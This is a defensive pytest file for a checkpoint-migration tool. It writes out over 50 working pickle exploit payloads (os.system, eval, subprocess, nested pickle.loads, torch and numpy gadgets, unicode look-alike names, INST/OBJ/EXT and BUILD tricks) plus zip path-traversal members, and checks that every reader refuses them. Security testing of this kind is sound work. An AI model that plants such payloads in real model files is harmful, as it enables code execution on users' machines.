"""Hostile pickles: every reader refuses each one with UnsafeCheckpointError, and nothing runs.

Each payload is written opcode by opcode (no class of ours is pickled), placed as the
``data.pkl`` of a real torch.save zip and as the main pickle of a real legacy torch.save file,
then given to every reader: ``cm.load`` (torch's path), the metadata-only reader, ``cm.diff``
and the CLI's ``info``, ``diff``, ``upgrade`` and ``stamp``. A canary file that the payload
would create proves that nothing from it ran; the allow-list and the classes a payload aims at
are checked unchanged afterwards.

The payloads follow the classic gadgets (``os.system``, ``eval``, ``getattr`` chains,
``subprocess``) and the bypasses reported against pickle scanners and weights-only loaders:
globals reached through ``torch._utils``, ``torch.serialization``, ``functools.partial``,
``operator.attrgetter``, nested ``pickle.loads``, numpy's reconstruct helpers, Python 2 names
(``__builtin__``, ``copy_reg``), unicode look-alike names, opcodes that build objects without a
checked global (INST, OBJ, EXT*) and BUILD aimed at the allowed globals themselves.
"""

from __future__ import annotations

import collections
import struct
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
import torch
from hostile import folder_state, legacy_with_main_pickle, replace_member, save_torch
from toy import TOY_MIGRATIONS, toy_schema, toy_sd

import ckptmigrate as cm
from ckptmigrate import cli
from ckptmigrate.engine.inplace import stamp_in_place, upgrade_in_place
from ckptmigrate.errors import CheckpointFormatError, UnsafeCheckpointError
from ckptmigrate.formats.torch import allowlist
from ckptmigrate.io.files import read_metadata

ROOT = Path(__file__).resolve().parent.parent


# ----------------------------------------------------------------------------- opcodes


def u(text: str) -> bytes:
    """BINUNICODE: push a str."""
    raw = text.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def b(data: bytes) -> bytes:
    """BINBYTES: push a bytes."""
    return b"B" + struct.pack("<I", len(data)) + data


def g(module: str, name: str) -> bytes:
    """GLOBAL (text form, protocol 0-3)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+): the two names come from the stack."""
    return u(module) + u(name) + b"\x93"


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) through REDUCE."""
    return func + b"(" + b"".join(args) + b"tR"


def p2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def state_dict_then(body: bytes) -> bytes:
    """A harmless dict first, the payload stored in it under a key (unsafe after valid)."""
    return p2(b"}" + u("w") + body + b"s")


# ----------------------------------------------------------------------------- payloads

Payload = Callable[[Path], bytes]  # canary path -> pickle bytes


def sh(canary: Path) -> str:
    return f"touch {canary}"


def py(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


PAYLOADS: dict[str, Payload] = {
    # the classics
    "reduce-os-system": lambda c: p2(call(g("os", "system"), u(sh(c)))),
    "reduce-posix-system": lambda c: p2(call(g("posix", "system"), u(sh(c)))),
    "reduce-nt-system": lambda c: p2(call(g("nt", "system"), u(sh(c)))),
    "stack-global-os-system": lambda c: p4(call(sg("os", "system"), u(sh(c)))),
    "memoised-stack-global": lambda c: p4(
        u("os") + b"\x94" + u("system") + b"\x94" + b"h\x00h\x01\x93" + b"(" + u(sh(c)) + b"tR"
    ),
    "builtins-eval": lambda c: p2(call(g("builtins", "eval"), u(py(c)))),
    "builtins-exec": lambda c: p2(call(g("builtins", "exec"), u(py(c)))),
    "builtins-compile": lambda c: p2(call(g("builtins", "compile"), u(py(c)), u("x"), u("exec"))),
    "builtins-open": lambda c: p2(call(g("builtins", "open"), u(str(c)), u("w"))),
    "builtins-import": lambda c: p2(call(g("builtins", "__import__"), u("os"))),
    "getattr-chain": lambda c: p2(
        call(
            call(g("builtins", "getattr"), call(g("builtins", "__import__"), u("os")), u("system")),
            u(sh(c)),
        )
    ),
    "builtins-setattr-on-allowed": lambda c: p2(
        call(g("builtins", "setattr"), g("torch", "Size"), u("__new__"), g("builtins", "set"))
    ),
    "builtins-globals": lambda c: p2(call(g("builtins", "globals"))),
    "sys-modules": lambda c: p2(g("sys", "modules")),
    "subprocess-popen": lambda c: p2(
        call(g("subprocess", "Popen"), b"]" + b"(" + u("touch") + u(str(c)) + b"e")
    ),
    "subprocess-check-output": lambda c: p4(
        call(sg("subprocess", "check_output"), u(sh(c)), b"\x88")
    ),
    "runpy-run-path": lambda c: p2(call(g("runpy", "run_path"), u(str(c)))),
    "importlib-import-module": lambda c: p2(call(g("importlib", "import_module"), u("os"))),
    # through torch
    "torch-utils-import-dotted-name": lambda c: p2(
        call(call(g("torch._utils", "_import_dotted_name"), u("os.system")), u(sh(c)))
    ),
    "torch-utils-lookalike-rebuild": lambda c: p2(call(g("torch._utils", "_rebuild_tensor_v9"))),
    "torch-utils-name-with-trailing-space": lambda c: p2(
        call(g("torch._utils", "_rebuild_tensor_v2 "))
    ),
    "torch-utils-dotted-attribute": lambda c: p4(
        call(sg("torch._utils", "_rebuild_tensor_v2.__globals__"))
    ),
    "torch-serialization-load": lambda c: p2(
        call(g("torch.serialization", "load"), u(str(c)), b"\x89")
    ),
    "torch-load": lambda c: p2(call(g("torch", "load"), u(str(c)))),
    "torch-storage-load-from-bytes": lambda c: p2(
        call(g("torch.storage", "_load_from_bytes"), b(b"\x80\x02N."))
    ),
    "torch-hub-load": lambda c: p2(call(g("torch.hub", "load"), u("evil/repo"), u("model"))),
    "torch-jit-load": lambda c: p2(call(g("torch.jit", "load"), u(str(c)))),
    "rebuild-from-type-with-eval": lambda c: p2(
        call(
            g("torch._tensor", "_rebuild_from_type_v2"),
            g("builtins", "eval"),
            g("torch", "Tensor"),
            b"(" + u(py(c)) + b"t",
            b"N",
        )
    ),
    # through helpers that call what they are given
    "functools-partial": lambda c: p2(
        b"(" + call(g("functools", "partial"), g("os", "system"), u(sh(c))) + b"tR"
    ),
    "operator-attrgetter": lambda c: p2(
        call(call(g("operator", "attrgetter"), u("system")), call(g("os", "getcwd")))
    ),
    "operator-methodcaller": lambda c: p2(
        call(call(g("operator", "methodcaller"), u("system"), u(sh(c))), g("os", "__name__"))
    ),
    "nested-pickle-loads": lambda c: p2(
        call(g("pickle", "loads"), b(p2(call(g("os", "system"), u(sh(c))))))
    ),
    "nested-_pickle-loads": lambda c: p2(
        call(g("_pickle", "loads"), b(p2(call(g("os", "system"), u(sh(c))))))
    ),
    "copyreg-reconstructor": lambda c: p2(
        call(g("copyreg", "_reconstructor"), g("os", "system"), g("builtins", "object"), b"N")
    ),
    "numpy-reconstruct": lambda c: p2(
        call(
            g("numpy.core.multiarray", "_reconstruct"),
            g("numpy", "ndarray"),
            b"(K\x00\x85",
            b(b"b"),
        )
    ),
    "numpy-load-allow-pickle": lambda c: p2(call(g("numpy", "load"), u(str(c)), b"\x88")),
    "numpy-testing-runstring": lambda c: p2(
        call(g("numpy.testing._private.utils", "runstring"), u(py(c)), b"}")
    ),
    # Python 2 spellings, mapped to Python 3 names before the check
    "py2-builtin-eval": lambda c: p2(call(g("__builtin__", "eval"), u(py(c)))),
    "py2-copy-reg": lambda c: p2(call(g("copy_reg", "_reconstructor"), g("os", "system"))),
    # look-alike names
    "fullwidth-module-name": lambda c: p4(call(sg("ｏｓ", "system"), u(sh(c)))),
    "fullwidth-function-name": lambda c: p4(call(sg("builtins", "ｅｖａｌ"), u(py(c)))),
    "cyrillic-o-in-allowed-class": lambda c: p4(call(sg("cоllections", "OrderedDict"))),
    "trailing-newline-module": lambda c: p4(call(sg("collections\n", "OrderedDict"))),
    "dotted-name-in-name": lambda c: p4(call(sg("collections", "OrderedDict.__init__"))),
    # opcodes that build objects outside the checked path
    "inst-os-system": lambda c: f"(S'{sh(c)}'\nios\nsystem\n.".encode(),
    "inst-allowed-class": lambda c: b"(icollections\nOrderedDict\n.",
    "obj-allowed-class": lambda c: p2(b"(" + g("collections", "OrderedDict") + b"o"),
    "obj-os-system": lambda c: p2(b"(" + g("os", "system") + u(sh(c)) + b"o"),
    "newobj-subprocess": lambda c: p2(g("subprocess", "Popen") + b"(" + u(sh(c)) + b"t\x81"),
    "newobj-ex-subprocess": lambda c: p4(sg("subprocess", "Popen") + b"(" + u(sh(c)) + b"t}\x92"),
    "ext1-code": lambda c: p2(b"\x82\x01" + b")R"),
    "ext2-code": lambda c: p2(b"\x83\x01\x00" + b")R"),
    "ext4-code": lambda c: p2(b"\x84\x01\x00\x00\x00" + b")R"),
    # BUILD aimed at what a global resolves to: would rewrite shared state for later files
    "build-on-dtype-constant": lambda c: p2(
        g("torch", "float32") + b"}" + u("name") + u("torch.float64") + b"sb"
    ),
    "build-slotstate-on-rebuild-function": lambda c: p2(
        g("torch._utils", "_rebuild_tensor_v2") + b"(N}" + u("__defaults__") + b")stb"
    ),
    "build-on-counter-class": lambda c: p2(
        g("collections", "Counter") + b"(N}" + u("most_common") + g("builtins", "set") + b"stb"
    ),
    "build-on-size-class": lambda c: p2(
        g("torch", "Size") + b"(N}" + u("__new__") + g("builtins", "set") + b"stb"
    ),
    "build-on-storage-class": lambda c: p2(
        g("torch", "FloatStorage") + b"}" + u("dtype") + u("int8") + b"sb"
    ),
    # unsafe after valid content
    "unsafe-after-a-valid-dict": lambda c: state_dict_then(call(g("os", "system"), u(sh(c)))),
}

# ----------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def ref(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("malicious-ref")
    save_torch(toy_sd(), root / "zip.pth")
    save_torch(toy_sd(), root / "legacy.pth", legacy=True)
    cm.save(root / "good.pth", toy_sd("layers"), schema="toy", version="3.0.0")
    (root / "mig").mkdir()
    (root / "mig" / "toy_migrations.py").write_text(TOY_MIGRATIONS)
    return root


def _shared_state() -> tuple:
    """What a BUILD gadget would rewrite: the allow-list's objects and a process-wide class."""
    allowed = allowlist._ALLOWED
    return (
        repr(allowed["torch.float32"]),
        allowed["torch.FloatStorage"].dtype,
        allowlist._rebuild_tensor_v2.__defaults__,
        dict(vars(allowlist._SizeType)),
        dict(vars(collections.Counter)),
    )


def _build(name: str, container: str, folder: Path, ref: Path) -> tuple[Path, Path]:
    canary = folder / "CANARY"
    body = PAYLOADS[name](canary)
    bad = folder / "evil.pth"
    if container == "zip":
        replace_member(ref / "zip.pth", bad, "/data.pkl", body)
    else:
        bad.write_bytes(legacy_with_main_pickle(ref / "legacy.pth", body))
    return bad, canary


# ----------------------------------------------------------------------------- tests


def test_there_are_many_distinct_payloads() -> None:
    assert len(PAYLOADS) >= 50


@pytest.mark.parametrize("container", ["zip", "legacy"])
@pytest.mark.parametrize("name", list(PAYLOADS))
def test_every_reader_refuses_it_as_unsafe_and_nothing_runs(
    name: str,
    container: str,
    tmp_path: Path,
    ref: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)  # where a relative ``touch`` would land
    bad, canary = _build(name, container, tmp_path, ref)
    before, shared = folder_state(tmp_path), _shared_state()
    good = ref / "good.pth"
    readers: dict[str, Callable[[], object]] = {
        "cm.load": lambda: cm.load(bad, schema=toy_schema()),
        "cm.load upgrade=False": lambda: cm.load(bad, upgrade=False),
        "read_metadata": lambda: read_metadata(bad),
        "cm.diff": lambda: cm.diff(bad, good),
        "cm.diff reversed, values": lambda: cm.diff(good, bad, values=True),
        "upgrade_in_place": lambda: upgrade_in_place(bad, toy_schema()),
        "stamp_in_place": lambda: stamp_in_place(bad, "toy", "1.0.0"),
        "cm.upgrade_file": lambda: cm.upgrade_file(bad, tmp_path / "out.pth", toy_schema()),
    }
    for what, read in readers.items():
        with pytest.raises(UnsafeCheckpointError) as info:
            read()
        assert "refusing to load" in str(info.value), what
    mig = ["--migrations", str(ref / "mig")]
    for args in (
        ["info", str(bad)],
        ["diff", str(bad), str(good)],
        ["diff", str(good), str(bad), "--values"],
        ["upgrade", str(bad), "--in-place", *mig],
        ["stamp", str(bad), "--schema", "toy", "--version", "1.0.0", "-o", "out.pth"],
    ):
        assert cli.main(args) == 2, args
        lines = capsys.readouterr().err.strip().splitlines()
        assert len(lines) == 1 and "ckptmigrate: error:" in lines[0], lines
        assert "refusing to load" in lines[0], lines
    assert not canary.exists()
    assert folder_state(tmp_path) == before
    assert _shared_state() == shared


def test_torchs_own_weights_only_loader_refuses_them_too(tmp_path: Path, ref: Path) -> None:
    """The second line of defence: were our reader bypassed, torch >= 2.10 still refuses."""
    refused = 0
    for name in PAYLOADS:
        bad, canary = _build(name, "zip", tmp_path, ref)
        with pytest.raises(Exception):  # noqa: B017 - torch raises several types
            torch.load(bad, weights_only=True)
        assert not canary.exists(), name
        refused += 1
    assert refused == len(PAYLOADS)


@pytest.mark.parametrize("member", ["../escape.txt", "archive/../../escape.txt", "/abs.txt"])
def test_a_zip_member_outside_the_archive_is_refused_and_never_extracted(
    member: str, tmp_path: Path, ref: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """No global is involved, so this is a CheckpointFormatError (allowing a name would not
    make the file loadable); what matters is that every reader refuses and nothing lands
    outside."""
    import zipfile

    folder = tmp_path / "inner"
    folder.mkdir()
    bad = folder / "evil.pth"
    with zipfile.ZipFile(ref / "zip.pth") as src, zipfile.ZipFile(bad, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr(member, b"escaped")
    before = folder_state(tmp_path)
    for read in (
        lambda: cm.load(bad, upgrade=False),
        lambda: read_metadata(bad),
        lambda: cm.diff(bad, ref / "good.pth"),
        lambda: upgrade_in_place(bad, toy_schema()),
    ):
        with pytest.raises(CheckpointFormatError, match="outside the archive"):
            read()
    assert cli.main(["info", str(bad)]) == 2
    assert "outside the archive" in capsys.readouterr().err
    assert folder_state(tmp_path) == before
    assert not (tmp_path / "escape.txt").exists() and not Path("/abs.txt").exists()


def test_allowing_a_global_by_name_never_opens_os_or_sys(tmp_path: Path, ref: Path) -> None:
    bad, canary = _build("reduce-os-system", "zip", tmp_path, ref)
    for allowed in (["os.system"], ["posix.system"]):
        with pytest.raises(UnsafeCheckpointError):
            read_metadata(bad, allowed_globals=allowed)
    assert not canary.exists()


def test_torch_is_required_at_2_10_or_newer() -> None:
    """weights-only bypasses fixed up to torch 2.10 must not come back with an older torch."""
    if sys.version_info >= (3, 11):
        import tomllib
    else:  # pragma: no cover
        import tomli as tomllib
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    assert "torch>=2.10" in project["dependencies"]
    from packaging.version import Version

    assert Version(torch.__version__.split("+")[0]) >= Version("2.10")
    assert "torch>=2.10" in (ROOT / "SECURITY.md").read_text()
